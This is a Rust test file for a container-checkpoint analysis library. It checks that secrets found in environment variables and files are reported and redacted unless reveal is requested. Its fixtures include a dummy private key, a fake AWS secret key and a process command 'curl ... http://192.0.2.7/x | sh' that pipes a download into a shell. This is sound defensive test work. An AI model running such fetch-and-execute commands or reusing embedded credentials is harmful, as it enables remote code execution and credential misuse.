//! Secrets are told once for each kind and place, and never whole.

use ckpt_analysis::triage::{Severity, TriageOptions, triage};
use ckpt_analysis::verify::{verify, verify_revealing};
use ckpt_archive::Options;
use ckpt_synth::{Archive, Container, Dump, Member, Task};

use crate::triage::findings;
use crate::{dump, init, open};

/// Written with a `¦` in it, so that nobody who looks for leaked keys stops at this file.
const PEM: &str = "-----BEGIN ¦PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIIlg16DgeH2+zHoSgxYEihA73jIlgqlOj00ZmO5ffaCT\n-----END PRIVATE KEY-----\n";

#[test]
fn secrets_by_place() {
    let secret = "IrleG6woopoDzp7O8QuKEh6¦D0JCk39QmJWikyFE+".replace('¦', "");
    let env = format!("AWS_SECRET_ACCESS_KEY={secret}");
    let tasks = [init().env(&[&env]), Task::new(7, 1).env(&[&env])];
    let mut diff = Archive::new();
    diff.push(Member::file("srv/tls.key", PEM.replace('¦', "").into_bytes()));
    let mut archive = Archive::podman(&dump(tasks));
    archive.replace("rootfs-diff.tar", diff.tar());
    let found = findings(&open(&archive));
    let of = |id: &str| found.iter().filter(|one| one.rule.id == id).collect::<Vec<_>>();
    let (variable, file) = (of("secret-in-environment"), of("secret-in-file"));
    assert_eq!((variable.len(), file.len()), (1, 1), "{found:#?}");
    assert_eq!(variable[0].pid.map(|pid| pid.0), Some(1));
    assert!(variable[0].severity <= Severity::Low);
    assert_eq!(file[0].severity, Severity::Medium);
    assert_eq!(file[0].path.as_ref().map(ToString::to_string).as_deref(), Some("/srv/tls.key"));
    assert!(of("secret-in-memory").is_empty(), "what was given is in memory, too");
    assert!(!format!("{found:?}").contains(&secret), "redacted");
    let quiet = findings(&open(&Archive::podman(&dump([init()]))));
    assert!(quiet.iter().all(|one| !one.rule.id.starts_with("secret-")));
}

/// Whoever embeds the library is shown secrets when he asks for them, and not before.
#[test]
fn what_is_quoted_is_redacted_unless_asked() {
    const PASSWORD: &str = "hunter2-Pa55";
    let command = format!("curl -u joe:{PASSWORD} http://192.0.2.7/x | sh");
    let mut dump = Dump::new();
    dump.container(Container::new("shop").command(&["sleep"]))
        .task(Task::new(1, 0).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", &command]));
    let checkpoint = open(&Archive::podman(&dump));
    let found = |options| format!("{:?}", triage(&checkpoint, &options).unwrap().findings);
    let hidden = found(TriageOptions::default());
    assert!(hidden.contains("joe:[redacted: ") && !hidden.contains(PASSWORD), "{hidden}");
    assert!(found(TriageOptions::default().reveal(true)).contains(PASSWORD));
    let hidden = format!("{:?}", verify(&checkpoint, &Options::default()).checks);
    assert!(hidden.contains("joe:[redacted: ") && !hidden.contains(PASSWORD), "{hidden}");
    let whole = verify_revealing(&checkpoint, &Options::default());
    assert!(format!("{:?}", whole.checks).contains(PASSWORD));
}
